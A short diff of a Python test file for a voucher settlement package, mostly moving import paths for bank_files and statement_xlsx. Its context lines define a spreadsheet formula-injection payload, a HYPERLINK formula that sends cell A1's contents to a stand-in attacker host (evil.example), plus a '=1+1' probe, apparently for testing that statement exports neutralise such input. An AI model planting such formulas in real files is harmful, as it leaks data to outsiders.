@@ -14,8 +14,8 @@ from tests.vouchers.settlement.builders import approved_statement
 from tests.vouchers.settlement.conftest import spend
 from tests.vouchers.settlement.doc_builders import make_statement
 from tests.vouchers.settlement.test_documents import public_url  # noqa: F401 (fixture)
-from vouchers.settlement import bank_files
-from vouchers.settlement.statement_xlsx import statement_xlsx
+from vouchers.settlement.bank import bank_files
+from vouchers.settlement.documents.statement_xlsx import statement_xlsx
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
 SERVICE = "=1+1"
